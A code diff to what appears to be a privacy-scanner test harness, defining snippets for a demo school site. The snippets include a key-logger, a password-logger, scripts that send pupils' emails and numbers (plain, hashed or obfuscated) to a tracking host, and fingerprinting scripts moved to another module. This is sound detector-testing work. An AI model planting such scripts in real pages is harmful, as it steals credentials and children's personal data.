@@ -6,37 +6,11 @@ the filters of `rendering.py`. A row shows only where it says: `everywhere`, `si
 
 from __future__ import annotations
 
-import re
-from dataclasses import dataclass
-from typing import Literal
-
 from harness.sandbox.demo import hosts
+from harness.sandbox.demo.behaviour import BEHAVIOUR
+from harness.sandbox.demo.snippet import Snippet, file, picture, script
 
-type Where = Literal["everywhere", "signed-in", "start"]
-
-
-@dataclass(frozen=True)
-class Snippet:
-    """A piece of page, and where it shows."""
-
-    where: Where
-    text: str
-
-
-def _script(where: Where, code: str) -> Snippet:
-    """A module script; `me` and `csrf` are constants in it where it uses them."""
-    used = [name for name in ("me", "csrf") if re.search(rf"\b{name}\b", code)]
-    prelude = "".join(f"const {name} = {{{{ {name}|tojson }}}};\n" for name in used)
-    return Snippet(where, f'<script type="module" nonce="{{{{ nonce }}}}">\n{prelude}{code.strip()}\n</script>')
-
-
-def _file(where: Where, address: str) -> Snippet:
-    return Snippet(where, f'<script src="{address}" async></script>')
-
-
-def _picture(address: str) -> Snippet:
-    return Snippet("signed-in", f'<img src="{address}" alt="" width="1" height="1">')
-
+__all__ = ["SNIPPETS", "Snippet"]
 
 _METER = f"https://{hosts.METER}/melding"
 _KEEP = "keepalive: true"
@@ -47,20 +21,20 @@ _UNDECLARED = {
     "font-undeclared": Snippet(
         "everywhere", f'<link rel="stylesheet" href="https://{hosts.FONT_CSS}/leesletter.css">'
     ),
-    "library-undeclared": _file("everywhere", f"https://{hosts.LIBRARY}/hulpjes.js"),
-    "stats-undeclared": _script(
+    "library-undeclared": file("everywhere", f"https://{hosts.LIBRARY}/hulpjes.js"),
+    "stats-undeclared": script(
         "everywhere", f'fetch("https://{hosts.STATS}/tel", {{method: "POST", body: "1"}}){_READ};'
     ),
     "redirect-undeclared": Snippet(
         "everywhere", f'<img src="https://{hosts.CDN}/door/teller.gif" alt="" width="1" height="1">'
     ),
-    "worker-undeclared": _script("everywhere", 'navigator.serviceWorker.register("/sw.js");'),
-    "websocket-undeclared": _script(
+    "worker-undeclared": script("everywhere", 'navigator.serviceWorker.register("/sw.js");'),
+    "websocket-undeclared": script(
         "everywhere",
         f'const line = new WebSocket("wss://{hosts.CHAT}/klas");\nline.onopen = () => line.send("hallo");',
     ),
     # No data channel and no candidate handler: this is a stray address lookup, not a fingerprint.
-    "stun-undeclared": _script("everywhere", f"""
+    "stun-undeclared": script("everywhere", f"""
 const call = new RTCPeerConnection({{iceServers: [{{urls: "stun:{hosts.STUN}:3478"}}]}});
 call.addTransceiver("audio");
 await call.setLocalDescription(await call.createOffer());
@@ -68,56 +42,27 @@ await call.setLocalDescription(await call.createOffer());
 }
 
 _TRACKERS = {
-    "ad-script": _file("everywhere", f"https://{hosts.ADS}/tag/js/gpt.js"),
+    "ad-script": file("everywhere", f"https://{hosts.ADS}/tag/js/gpt.js"),
     "cookie-sync": Snippet(
-        "everywhere", f'<img src="https://{hosts.SYNC[0]}/getuid?hop=1" alt="" width="1" height="1">'
+        "everywhere", f'<img src="https://{hosts.SYNC[0]}/getuid" alt="" width="1" height="1">'
     ),
-    "analytics-script": _file("everywhere", f"https://{hosts.TAGS}/gtag/js?id=G-DEMOSCHOOL"),
-    "hides-from-tools": _script("everywhere", f"""
+    "analytics-script": file("everywhere", f"https://{hosts.TAGS}/gtag/js?id=G-DEMOSCHOOL"),
+    "hides-from-tools": script("everywhere", f"""
 if (!navigator.webdriver && !/Headless/.test(navigator.userAgent)) new Image().src = "https://{hosts.SHY}/action/0";
 """),
-    "social-pixel": _file("everywhere", f"https://{hosts.SOCIAL}/nl_NL/fbevents.js"),
-    "replay-masked": _file("everywhere", f"https://{hosts.REPLAY}/c/hotjar-3141592.js?sv=6"),
-    "replay-unmasked": _file("everywhere", f"https://{hosts.REPLAY_FULL}/projects/2718281.js"),
+    "social-pixel": file("everywhere", f"https://{hosts.SOCIAL}/nl_NL/fbevents.js"),
+    "replay-masked": file("everywhere", f"https://{hosts.REPLAY}/c/hotjar-3141592.js?sv=6"),
+    "replay-unmasked": file("everywhere", f"https://{hosts.REPLAY_FULL}/projects/2718281.js"),
     "cname-cloak": Snippet(
         "everywhere", f'<script src="https://{hosts.CLOAK}/mee.js" nonce="{{{{ nonce }}}}" async></script>'
     ),
-    "canvas-fingerprint": _script("everywhere", """
-const canvas = document.createElement("canvas");
-canvas.width = 280; canvas.height = 60;
-const brush = canvas.getContext("2d");
-brush.textBaseline = "top"; brush.font = "18px Arial";
-brush.fillStyle = "#f60"; brush.fillRect(120, 1, 62, 20);
-brush.fillStyle = "#069"; brush.fillText("Pa's wijze lynx bezag vroom het fikse aquaduct", 2, 15);
-brush.fillStyle = "rgba(102, 204, 0, 0.7)"; brush.fillText("Cwm fjordbank glyphs vext quiz", 4, 35);
-fetch("/api/meting", {method: "POST", keepalive: true, body: canvas.toDataURL().slice(-64)});
-"""),
-    "font-fingerprint": _script("everywhere", """
-const brush = document.createElement("canvas").getContext("2d"), widths = [];
-for (let number = 0; number < 60; number += 1) {
-  brush.font = `72px "Letter ${number}", monospace`;
-  widths.push(brush.measureText("mmmmmmmmmmlli").width);
-}
-fetch("/api/meting", {method: "POST", keepalive: true, body: widths.join()});
-"""),
-    "audio-fingerprint": _script("everywhere", """
-const room = new OfflineAudioContext(1, 5000, 44100), tone = room.createOscillator();
-const press = room.createDynamicsCompressor();
-tone.type = "triangle"; tone.frequency.value = 10000;
-tone.connect(press); press.connect(room.destination); tone.start(0);
-room.oncomplete = (heard) => {
-  const sum = heard.renderedBuffer.getChannelData(0).reduce((all, one) => all + Math.abs(one), 0);
-  fetch("/api/meting", {method: "POST", keepalive: true, body: String(sum)});
-};
-room.startRendering();
-"""),
 }
 
 _REMEMBER = 'localStorage.getItem("bezoeker") ?? localStorage.setItem("bezoeker", crypto.randomUUID());'
 
 _CONSENT = {
-    "storage-before-choice": _script("everywhere", _REMEMBER),
-    "storage-after-refusal": _script("everywhere", "{% if consent == 'nodig' %}" + _REMEMBER + "{% endif %}"),
+    "storage-before-choice": script("everywhere", _REMEMBER),
+    "storage-after-refusal": script("everywhere", "{% if consent == 'nodig' %}" + _REMEMBER + "{% endif %}"),
     "video-after-refusal": Snippet(
         "everywhere",
         "{% if consent == 'nodig' %}"
@@ -131,54 +76,54 @@ _CONSENT = {
 }
 
 _LEAKS = {
-    "leak-query-plain": _picture(_METER + "?mail={{ me.email }}"),
-    "leak-query-encoded": _picture(_METER + "?mail={{ me.email|urlencode }}"),
-    "leak-path": _script("signed-in", f"""
+    "leak-query-plain": picture(_METER + "?mail={{ me.email }}"),
+    "leak-query-encoded": picture(_METER + "?mail={{ me.email|urlencode }}"),
+    "leak-path": script("signed-in", f"""
 if (me.pupil_number) fetch("{_METER}/" + me.pupil_number, {{{_KEEP}}}){_READ};
 """),
-    "leak-base64": _picture(_METER + "?u={{ me.email|base64|urlencode }}"),
-    "leak-base64url": _picture(_METER + "?u={{ me.email|base64url }}"),
-    "leak-hex": _picture(_METER + "?u={{ me.email|hex }}"),
-    "leak-md5": _picture(_METER + "/portret/{{ me.email|trim|lower|md5 }}"),
-    "leak-sha1": _picture(_METER + "?u={{ me.email|trim|lower|sha1 }}"),
-    "leak-sha256": _picture(_METER + "?u={{ me.email|trim|lower|sha256 }}"),
-    "leak-sha256-upper": _picture(_METER + "?u={{ me.email|trim|upper|sha256 }}"),
-    "leak-name-sha256": _picture(_METER + "?u={{ me.last_name|trim|lower|sha256 }}"),
-    "leak-json-body": _script("signed-in", f"""
+    "leak-base64": picture(_METER + "?u={{ me.email|base64|urlencode }}"),
+    "leak-base64url": picture(_METER + "?u={{ me.email|base64url }}"),
+    "leak-hex": picture(_METER + "?u={{ me.email|hex }}"),
+    "leak-md5": picture(_METER + "/portret/{{ me.email|trim|lower|md5 }}"),
+    "leak-sha1": picture(_METER + "?u={{ me.email|trim|lower|sha1 }}"),
+    "leak-sha256": picture(_METER + "?u={{ me.email|trim|lower|sha256 }}"),
+    "leak-sha256-upper": picture(_METER + "?u={{ me.email|trim|upper|sha256 }}"),
+    "leak-name-sha256": picture(_METER + "?u={{ me.last_name|trim|lower|sha256 }}"),
+    "leak-json-body": script("signed-in", f"""
 if (me.pupil_number) {{
   const body = JSON.stringify({{soort: "bezoek", wie: {{nummer: me.pupil_number}}}});
   fetch("{_METER}", {{method: "POST", headers: {{"content-type": "application/json"}}, body, {_KEEP}}}){_READ};
 }}
 """),
-    "leak-form-body": _script("signed-in", f"""
+    "leak-form-body": script("signed-in", f"""
 fetch("{_METER}", {{method: "POST", body: new URLSearchParams({{naam: me.first_name}}), {_KEEP}}}){_READ};
 """),
-    "leak-header": _script("signed-in", f"""
+    "leak-header": script("signed-in", f"""
 fetch("{_METER}", {{headers: {{"x-gebruiker": me.first_name}}, {_KEEP}}}){_READ};
 """),
-    "leak-beacon": _script("signed-in", f'navigator.sendBeacon("{_METER}", JSON.stringify({{mail: me.email}}));'),
-    "leak-websocket": _script("signed-in", f"""
+    "leak-beacon": script("signed-in", f'navigator.sendBeacon("{_METER}", JSON.stringify({{mail: me.email}}));'),
+    "leak-websocket": script("signed-in", f"""
 const line = new WebSocket("wss://{hosts.METER}/stroom");
 line.onopen = () => line.send(JSON.stringify({{mail: me.email}}));
 """),
-    "leak-gzip": _script("signed-in", f"""
+    "leak-gzip": script("signed-in", f"""
 const packed = new Blob([JSON.stringify({{mail: me.email}})]).stream().pipeThrough(new CompressionStream("gzip"));
 const body = await new Response(packed).arrayBuffer();
 fetch("{_METER}", {{method: "POST", headers: {{"content-type": "application/octet-stream"}}, body, {_KEEP}}}){_READ};
 """),
-    "leak-base64-json": _script("signed-in", f"""
+    "leak-base64-json": script("signed-in", f"""
 fetch("{_METER}?data=" + encodeURIComponent(btoa(JSON.stringify({{mail: me.email}}))), {{{_KEEP}}}){_READ};
 """),
-    "leak-cookie": _script("signed-in", f"""
+    "leak-cookie": script("signed-in", f"""
 const first = new Image(), second = new Image();
 first.onload = () => {{ second.src = "https://{hosts.METER_BARE}/klok.gif"; }};
 const covered = [...me.email].map((letter) => (letter.charCodeAt(0) ^ {hosts.COVER}).toString(16).padStart(2, "0"));
 first.src = "https://{hosts.METER_BARE}/start.gif?u=" + covered.join("");
 """),
-    "key-logger": _script("signed-in", f"""
+    "key-logger": script("signed-in", f"""
 document.addEventListener("input", (event) => navigator.sendBeacon("{_METER}", event.target.value));
 """),
-    "password-logger": _script("everywhere", f"""
+    "password-logger": script("everywhere", f"""
 document.addEventListener("input", (event) => {{
   if (event.target.type === "password") navigator.sendBeacon("{_METER}", event.target.value);
 }});
@@ -189,26 +134,26 @@ _OWN = {
     "mixed-image": Snippet(
         "everywhere", f'<img src="http://{hosts.STATIC}/static/sterren.svg" alt="" width="24" height="24">'
     ),
-    "name-in-query": _script(
+    "name-in-query": script(
         "signed-in", f'fetch("/api/homework?naam=" + encodeURIComponent(me.first_name)){_READ};'
     ),
-    "canary-in-storage": _script("signed-in", 'localStorage.setItem("profiel", JSON.stringify(me));'),
-    "token-in-storage": _script("signed-in", 'localStorage.setItem("sessie", {{ token|tojson }});'),
-    "geo-at-start": _script("start", "navigator.geolocation.getCurrentPosition(() => {}, () => {});"),
-    "geo-to-own-api": _script("start", """
+    "canary-in-storage": script("signed-in", 'localStorage.setItem("profiel", JSON.stringify(me));'),
+    "token-in-storage": script("signed-in", 'localStorage.setItem("sessie", {{ token|tojson }});'),
+    "geo-at-start": script("start", "navigator.geolocation.getCurrentPosition(() => {}, () => {});"),
+    "geo-to-own-api": script("start", """
 navigator.geolocation.getCurrentPosition(({coords}) => fetch("/api/plaats", {
   method: "POST", keepalive: true, headers: {"content-type": "application/json", "x-csrf-token": csrf},
   body: JSON.stringify({lat: coords.latitude, lon: coords.longitude}),
 }), () => {});
 """),
-    "geo-to-third-party": _script("start", f"""
+    "geo-to-third-party": script("start", f"""
 navigator.geolocation.getCurrentPosition(({{coords}}) => fetch(
   `{_METER}?lat=${{coords.latitude}}&lon=${{coords.longitude}}`, {{{_KEEP}}}){_READ}, () => {{}});
 """),
-    "camera-at-start": _script("start", "await navigator.mediaDevices.getUserMedia({video: true}).catch(() => {});"),
-    "microphone-at-start": _script(
+    "camera-at-start": script("start", "await navigator.mediaDevices.getUserMedia({video: true}).catch(() => {});"),
+    "microphone-at-start": script(
         "start", "await navigator.mediaDevices.getUserMedia({audio: true}).catch(() => {});"
     ),
 }
 
-SNIPPETS: dict[str, Snippet] = {**_UNDECLARED, **_TRACKERS, **_CONSENT, **_LEAKS, **_OWN}
+SNIPPETS: dict[str, Snippet] = {**_UNDECLARED, **_TRACKERS, **BEHAVIOUR, **_CONSENT, **_LEAKS, **_OWN}
